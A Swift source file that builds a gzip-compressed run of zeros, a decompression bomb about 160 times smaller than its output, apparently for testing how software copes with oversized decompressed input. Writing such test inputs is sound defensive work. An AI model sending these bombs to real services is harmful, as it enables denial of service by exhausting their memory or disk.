/// Writes gzip without a compressor: enough for a bomb.
enum Gzip {
    /// A valid gzip file (RFC 1952) of a run of zero bytes, about 160 times smaller than what it holds.
    ///
    /// - Parameter count: How many zeros at least; a few more are written to fill the last match.
    static func zeros(atLeast count: Int) -> [UInt8] {
        let matches = max(0, (count + 256) / 258)
        let size = 1 + matches * 258
        var bits = BitWriter()
        bits.write(1, count: 1)  // the last block
        bits.write(1, count: 2)  // fixed Huffman codes (RFC 1951, 3.2.6)
        bits.writeCode(0b0011_0000, count: 8)  // the literal 0
        for _ in 0..<matches {
            bits.writeCode(0b1100_0101, count: 8)  // length 258
            bits.writeCode(0, count: 5)  // distance 1
        }
        bits.writeCode(0, count: 7)  // end of block
        let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
        return header + bits.bytes + littleEndian(checksum(zeros: size)) + littleEndian(UInt32(size))
    }

    /// CRC-32 as gzip uses it (RFC 1952, 8).
    private static func checksum(zeros count: Int) -> UInt32 {
        var register: UInt32 = 0xFFFF_FFFF
        for _ in 0..<count { register = register >> 8 ^ table[Int(register & 0xFF)] }
        return ~register
    }

    private static let table: [UInt32] = (0..<256).map { byte in
        (0..<8).reduce(byte) { value, _ in value & 1 == 0 ? value >> 1 : value >> 1 ^ 0xEDB8_8320 }
    }

    private static func littleEndian(_ value: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: value >> ($0 * 8)) }
    }

    private struct BitWriter {
        var bytes: [UInt8] = []
        private var used = 8

        mutating func write(_ value: UInt32, count: Int) {
            for index in 0..<count {
                if used == 8 {
                    bytes.append(0)
                    used = 0
                }
                bytes[bytes.count - 1] |= UInt8((value >> index) & 1) << used
                used += 1
            }
        }

        /// Huffman codes go in with their highest bit first.
        mutating func writeCode(_ code: UInt32, count: Int) {
            for index in (0..<count).reversed() { write(code >> index & 1, count: 1) }
        }
    }
}
